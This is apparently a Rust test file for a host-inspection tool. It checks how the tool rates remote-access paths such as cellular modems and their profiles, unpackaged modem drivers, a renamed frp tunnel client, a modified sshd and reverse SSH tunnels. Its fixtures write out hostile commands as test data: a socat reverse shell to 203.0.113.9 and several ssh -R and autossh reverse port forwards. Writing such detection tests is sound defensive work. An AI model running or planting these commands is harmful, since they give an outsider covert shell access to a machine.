//! The ladder on inventories made by hand.
#![allow(clippy::unwrap_used)]
use crate::base::{Evidence, Name, Time};
use crate::baseline::Baselines;
use crate::inventory::{
    Binary, Connection, Device, Driver, DriverSetting, Event, File, Interface, Inventory, Package, Row, Scene, Service,
    Task,
};
use crate::judge::{Finding, Knowledge, Policy, Rung, Severity, judge, judge_so_far};

pub(super) fn at(path: &str, line: u32) -> Evidence {
    Evidence { path: path.into(), line: Some(line), ..Evidence::default() }
}
pub(super) fn file(path: &str, check: &str) -> Row {
    let package = matches!(check, "ok" | "differs").then(|| "pkg".into());
    File {
        system: Some(0),
        path: path.into(),
        kind: "file".into(),
        size: 1,
        package_check: check.into(),
        package,
        evidence: at(path, 0),
        ..File::default()
    }
    .into()
}
pub(super) fn driver(name: &str, path: &str) -> Driver {
    Driver {
        system: Some(0),
        name: name.into(),
        path: path.into(),
        intree: Some(true),
        ordered: Some(true),
        evidence: at(path, 0),
        ..Driver::default()
    }
}
fn gsm(name: &str, enabled: bool) -> Connection {
    Connection {
        system: Some(0),
        name: name.into(),
        manager: "networkmanager".into(),
        kind: "gsm".into(),
        apn: "internet".into(),
        uuid: format!("uuid-{name}"),
        enabled,
        enabled_by: vec!["autoconnect".into()],
        evidence: at(&format!("/etc/NetworkManager/system-connections/{name}.nmconnection"), 1),
        ..Connection::default()
    }
}
fn modem(vendor: &str, product: &str, name: &str) -> Device {
    Device {
        system: Some(0),
        bus: "usb".into(),
        vendor: vendor.into(),
        product: product.into(),
        name: name.into(),
        class: "cellular".into(),
        driver: "option".into(),
        node: "ttyUSB2".into(),
        source: "log".into(),
        count: 3,
        evidence: at("/var/log/syslog", 7),
        ..Device::default()
    }
}
pub(super) fn service(name: &str, command: &str, program: &str, enabled: bool) -> Service {
    Service {
        system: Some(0),
        name: name.into(),
        kind: "service".into(),
        enabled,
        enabled_by: vec!["multi-user.target".into()],
        commands: vec![format!("ExecStart={command}")],
        program: Some(program.into()),
        evidence: at(&format!("/etc/systemd/system/{name}"), 0),
        ..Service::default()
    }
}
pub(super) fn findings(mut rows: Vec<Row>) -> Vec<Finding> {
    // Something that a package owns: there is a database.
    rows.push(file("/usr/bin/true", "ok"));
    findings_without_database(rows)
}
pub(super) fn findings_without_database(rows: Vec<Row>) -> Vec<Finding> {
    let mut inventory = Inventory::default();
    for row in rows {
        inventory.push(row);
    }
    inventory.sort();
    let knowledge = Knowledge::load(&[]).unwrap();
    let judged =
        judge(&knowledge, &Baselines::default(), &Policy::default(), "2026-01-01", &Scene::default(), &inventory, &[]);
    judged.findings.into_iter().filter(|f| f.rung.is_some()).collect()
}
pub(super) fn one(rows: Vec<Row>) -> Finding {
    let mut all = findings(rows);
    assert_eq!(all.len(), 1, "{all:#?}");
    all.remove(0)
}

#[test]
fn stock_support_is_one_line() {
    let mut rows = vec![
        Package {
            system: Some(0),
            name: "modemmanager".into(),
            state: "install ok installed".into(),
            ..Package::default()
        }
        .into(),
        file("/lib/systemd/system/ModemManager.service", "ok"),
        Service {
            evidence: at("/lib/systemd/system/ModemManager.service", 0),
            ..service("ModemManager.service", "/usr/sbin/ModemManager", "/usr/sbin/ModemManager", true)
        }
        .into(),
    ];
    for name in ["option", "qmi_wwan", "cdc_mbim", "ext4"] {
        let path = format!("/lib/modules/6.1/kernel/{name}.ko");
        rows.push(driver(name, &path).into());
        rows.push(file(&path, "ok"));
    }
    let found = one(rows);
    assert_eq!(
        (found.rung, found.severity, found.subject.as_str()),
        (Some(Rung::Capable), Severity::Info, "stock cellular support")
    );
    assert!(
        found.observed.contains("driver qmi_wwan") && found.observed.contains("ModemManager.service"),
        "{}",
        found.observed
    );
    assert!(!found.observed.contains("ext4"));
}

#[test]
fn a_profile_stands_on_its_rung() {
    let found = one(vec![gsm("crane", true).into()]);
    assert_eq!((found.rung, found.severity), (Some(Rung::Enabled), Severity::High));
    let found = one(vec![gsm("crane", false).into()]);
    assert_eq!((found.rung, found.severity), (Some(Rung::Configured), Severity::Medium));
    let used = Connection { last_used: Some(Time::seconds(1_700_000_000)), ..gsm("crane", false) };
    let found = one(vec![used.into()]);
    assert_eq!((found.rung, found.severity), (Some(Rung::Used), Severity::High));
    let route = Connection { default_route: true, ..gsm("crane", false) };
    let found = one(vec![route.into()]);
    assert_eq!(found.severity, Severity::High);
    assert!(found.observed.contains("Raised by: crane may become the default route."), "{}", found.observed);
}

#[test]
fn a_modem_its_profile_and_its_log_are_one_link() {
    let rows = vec![
        modem("2c7c", "0125", "EC25").into(),
        gsm("crane", true).into(),
        DriverSetting {
            system: Some(0),
            name: "option".into(),
            action: "load".into(),
            evidence: at("/etc/modules", 1),
            ..DriverSetting::default()
        }
        .into(),
        Event {
            system: Some(0),
            class: "modem-use".into(),
            kind: "nm-activated".into(),
            text: "device (ttyUSB2): Activation: successful".into(),
            fields: vec!["tty=ttyUSB2".into()],
            evidence: at("/var/log/syslog", 9),
            ..Event::default()
        }
        .into(),
    ];
    let found = one(rows);
    assert_eq!((found.rung, found.subject.as_str()), (Some(Rung::Used), "modem 2c7c:0125"));
    assert_eq!(found.evidence.len(), 4);
    let chain: Vec<String> = found.evidence.iter().map(|e| e.path.display()).collect();
    assert_eq!(
        chain,
        [
            "/var/log/syslog",
            "/etc/modules",
            "/etc/NetworkManager/system-connections/crane.nmconnection",
            "/var/log/syslog"
        ]
    );
}

#[test]
fn two_modems_and_two_profiles_stay_apart() {
    let rows = vec![
        modem("2c7c", "0125", "EC25").into(),
        Device { node: "ttyUSB9".into(), driver: "qmi_wwan".into(), ..modem("1199", "9071", "MC7455") }.into(),
        gsm("a", true).into(),
        gsm("b", true).into(),
    ];
    // Which modem a profile without a device uses is not known: they are not joined.
    assert_eq!(findings(rows).len(), 3);
}

#[test]
fn a_peer_and_the_command_that_dials_it() {
    let peer = Connection {
        manager: "ppp".into(),
        kind: "ppp-modem".into(),
        name: "gprs".into(),
        device: "/dev/ttyUSB0".into(),
        uuid: String::new(),
        evidence: at("/etc/ppp/peers/gprs", 1),
        ..gsm("gprs", false)
    };
    let task = Task {
        system: Some(0),
        schedule: "@reboot".into(),
        command: "/usr/bin/pon gprs".into(),
        enabled: true,
        evidence: at("/etc/cron.d/dial", 1),
        ..Task::default()
    };
    let found = one(vec![peer.into(), task.into()]);
    assert_eq!((found.rung, found.evidence.len(), found.subject.as_str()), (Some(Rung::Enabled), 2, "connection gprs"));
}

#[test]
fn dsl_is_no_modem() {
    let dsl = Connection {
        kind: "pppoe".into(),
        apn: String::new(),
        name: "dsl-provider".into(),
        ..gsm("dsl-provider", true)
    };
    let interface = Interface {
        system: Some(0),
        name: "dsl".into(),
        kind: "ppp".into(),
        method: "ppp".into(),
        auto: true,
        details: vec!["provider=dsl-provider".into()],
        evidence: at("/etc/network/interfaces", 3),
        ..Interface::default()
    };
    let up = Event {
        system: Some(0),
        class: "modem-use".into(),
        kind: "pppd-up".into(),
        text: "local  IP address 10.0.0.2".into(),
        evidence: at("/var/log/syslog", 1),
        ..Event::default()
    };
    assert_eq!(findings(vec![dsl.into(), interface.into(), up.into()]), []);
}

#[test]
fn a_driver_no_package_vouches_for() {
    let path = "/lib/modules/6.1/extra/GobiNet.ko";
    let gobi = Driver { intree: None, ordered: Some(false), outside: true, ..driver("GobiNet", path) };
    let blacklist = DriverSetting {
        system: Some(0),
        name: "qmi_wwan".into(),
        action: "blacklist".into(),
        evidence: at("/etc/modprobe.d/gobi.conf", 1),
        ..DriverSetting::default()
    };
    let rows = || -> Vec<Row> { vec![gobi.clone().into(), file(path, "unowned")] };
    let found = one(rows());
    assert_eq!(
        (found.rung, found.severity, found.subject.as_str()),
        (Some(Rung::Altered), Severity::High, "driver GobiNet")
    );
    let found = one([rows(), vec![blacklist.clone().into()]].concat());
    assert!(
        found.observed.contains("Raised by: the stock driver qmi_wwan is kept away beside GobiNet"),
        "{}",
        found.observed
    );
    // Under another name, what it builds on tells.
    let renamed = Driver { name: "crane_io".into(), depends: vec!["usbnet".into(), "cdc-wdm".into()], ..gobi.clone() };
    assert_eq!(one(vec![renamed.into(), file(path, "unowned")]).rung, Some(Rung::Altered));
    // Alone, a blacklist is a protection.
    let found = one(vec![blacklist.into()]);
    assert_eq!(found.severity, Severity::Info);
}

#[test]
fn where_a_modem_was_made_does_not_matter() {
    let of = |vendor: &str, name: &str| {
        let peer = Connection { name: format!("{name} link"), ..gsm("x", true) };
        one(vec![modem(vendor, "0125", name).into(), peer.into()])
    };
    let (a, b) = (of("2c7c", "Quectel"), of("1199", "Sierra Wireless"));
    assert_eq!((a.severity, a.rung, a.confidence), (b.severity, b.rung, b.confidence));
}

fn tunnel(path: &str, check: &str) -> Vec<Row> {
    let name: Name = path.into();
    vec![
        Binary {
            system: Some(0),
            path: name,
            kind: "executable".into(),
            go_module: "github.com/fatedier/frp".into(),
            evidence: at(path, 0),
            ..Binary::default()
        }
        .into(),
        file(path, check),
        service("netmond.service", path, path, true).into(),
    ]
}

#[test]
fn a_renamed_tunnel_client_is_recognised() {
    let found = one(tunnel("/usr/sbin/netmond", "unowned"));
    assert_eq!(
        (found.rung, found.severity, found.subject.as_str()),
        (Some(Rung::Enabled), Severity::High, "program /usr/sbin/netmond")
    );
    assert!(found.observed.contains("its name differs from the identified program"), "{}", found.observed);
    assert!(found.observed.contains("Altered: the program /usr/sbin/netmond is frp"), "{}", found.observed);
    // The unit, and the program's file, once.
    assert_eq!(found.evidence.len(), 2);
    // Packaged, and set up by its own package: installed.
    let mut rows = tunnel("/usr/bin/frpc", "ok");
    rows.push(file("/etc/systemd/system/netmond.service", "ok"));
    let found = one(rows);
    assert_eq!((found.rung, found.severity), (Some(Rung::Installed), Severity::Medium));
    // With settings of this machine, the default start counts.
    let mut rows = tunnel("/usr/bin/frpc", "ok");
    rows.push(file("/etc/systemd/system/netmond.service", "ok"));
    rows.push(file("/etc/frp/frpc.toml", "unowned"));
    let found = one(rows);
    assert_eq!((found.rung, found.severity), (Some(Rung::Enabled), Severity::High));
}

fn sshd(check: &str) -> Vec<Row> {
    let path = "/usr/sbin/sshd";
    vec![
        Package {
            system: Some(0),
            name: "openssh-server".into(),
            state: "install ok installed".into(),
            ..Package::default()
        }
        .into(),
        Binary {
            system: Some(0),
            path: path.into(),
            kind: "executable".into(),
            traces: vec!["openssh: sshd version %s, %s".into()],
            evidence: at(path, 0),
            ..Binary::default()
        }
        .into(),
        file(path, check),
        file("/lib/systemd/system/ssh.service", "ok"),
        Service {
            evidence: at("/lib/systemd/system/ssh.service", 0),
            ..service("ssh.service", "/usr/sbin/sshd -D", path, true)
        }
        .into(),
    ]
}

#[test]
fn a_tunnel_known_by_its_settings_takes_its_program_along() {
    let program = "/usr/lib/systemd/systemd-netwatchd";
    let settings = Connection {
        system: Some(0),
        name: "/etc/netwatch.toml".into(),
        manager: "frp".into(),
        kind: "tunnel".into(),
        endpoints: vec!["203.0.113.77:7000".into()],
        evidence: at("/etc/netwatch.toml", 1),
        ..Connection::default()
    };
    let elf = File {
        system: Some(0),
        path: program.into(),
        content: "elf".into(),
        package_check: "unowned".into(),
        evidence: at(program, 0),
        ..File::default()
    };
    let unit = service("netwatch.service", &format!("{program} -c /etc/netwatch.toml"), program, true);
    let mut inventory = Inventory::default();
    for row in [settings.into(), elf.into(), unit.into(), file("/usr/bin/true", "ok")] {
        inventory.push(row);
    }
    let knowledge = Knowledge::load(&[]).unwrap();
    let judged = judge(&knowledge, &Baselines::default(), &Policy::default(), "", &Scene::default(), &inventory, &[]);
    let found: Vec<_> = judged.findings.iter().map(|f| (f.rule.as_str(), f.rung, f.evidence.len())).collect();
    assert_eq!(found, [("remote-access-path", Some(Rung::Enabled), 3)]);
}

#[test]
fn sshd_is_stock_until_it_differs() {
    let found = one(sshd("ok"));
    assert_eq!(
        (found.rung, found.severity, found.subject.as_str()),
        (Some(Rung::Capable), Severity::Info, "stock remote access")
    );
    let found = one(sshd("differs"));
    assert_eq!(
        (found.rung, found.severity, found.subject.as_str()),
        (Some(Rung::Altered), Severity::High, "program /usr/sbin/sshd")
    );
    assert!(found.observed.contains("differs from its package's manifest"), "{}", found.observed);
}

#[test]
fn reverse_ports_by_ssh_are_paths_of_their_own() {
    let task = |command: &str| -> Row {
        Task {
            system: Some(0),
            schedule: "@reboot".into(),
            command: command.into(),
            enabled: true,
            evidence: at("/etc/cron.d/x", 1),
            ..Task::default()
        }
        .into()
    };
    for command in [
        "/usr/bin/ssh -N -R 2222:localhost:22 maint@203.0.113.9",
        "autossh -M 0 -fNTR 2222:127.0.0.1:22 u@h.example",
        "ssh -o ExitOnForwardFailure=yes -o RemoteForward=2222:localhost:22 u@h",
        "ssh -i /root/.k -w 0:0 root@h",
        "sleep 30; ssh -D1080 -N h",
        "socat TCP:203.0.113.9:443 EXEC:/bin/sh",
    ] {
        let found = one(vec![task(command)]);
        assert_eq!((found.rung, found.severity), (Some(Rung::Enabled), Severity::High), "{command}");
    }
    for command in [
        "ssh -o ServerAliveInterval=30 h uptime",
        "ssh -p 22 -i /root/.ssh/Rkey h df",
        "/usr/bin/rsync -R /a h:/b",
        "ssh h 'grep -R x /etc'",
    ] {
        assert_eq!(findings(vec![task(command)]), [], "{command}");
    }
}

#[test]
fn what_is_judged_before_the_contents_can_only_rise() {
    let packaged = |name: &str, command: &str, program: &str| Service {
        evidence: at(&format!("/usr/lib/systemd/system/{name}"), 0),
        ..service(name, command, program, true)
    };
    let early: Vec<Row> = vec![
        packaged("ModemManager.service", "/usr/sbin/ModemManager", "/usr/sbin/ModemManager").into(),
        packaged("wan.service", "/usr/bin/quectel-CM -s cmnet", "/usr/bin/quectel-CM").into(),
        service("tunnel.service", "/usr/bin/ssh -N -R 2222:localhost:22 u@203.0.113.5", "/usr/bin/ssh", true).into(),
        gsm("wan", true).into(),
    ];
    let late = ["/usr/lib/systemd/system/ModemManager.service", "/usr/lib/systemd/system/wan.service", "/usr/bin/ssh"]
        .map(|path| file(path, "ok"));
    let local = ["/etc/systemd/system/tunnel.service", "/etc/NetworkManager/system-connections/wan.nmconnection"]
        .map(|path| file(path, "unowned"));
    let knowledge = Knowledge::load(&[]).unwrap();
    let mut scene = Scene::default();
    let unowned = vec!["/etc/NetworkManager/system-connections/wan.nmconnection".into()];
    scene.systems.push(crate::inventory::SystemInfo { package_database: "dpkg".into(), unowned, ..Default::default() });
    let mut inventory = Inventory::default();
    early.into_iter().for_each(|row| inventory.push(row));
    inventory.sort();
    let before = judge_so_far(&knowledge, &Baselines::default(), "", &scene, &inventory, &[]).findings;
    late.into_iter().chain(local).for_each(|row| inventory.push(row));
    inventory.sort();
    let after = judge(&knowledge, &Baselines::default(), &Policy::default(), "", &scene, &inventory, &[]).findings;
    let severe = |all: &[Finding]| all.iter().filter(|f| f.severity >= Severity::Medium).count();
    assert!(severe(&after) >= 2, "{after:#?}");
    // The profile is known for this machine's own at once.
    assert_eq!(severe(&before), 1, "{before:#?}");
    for finding in before.iter().filter(|f| f.severity > Severity::Info) {
        let end = after.iter().find(|f| f.id == finding.id);
        assert!(end.is_some_and(|end| end.severity >= finding.severity), "{finding:#?}");
    }
}
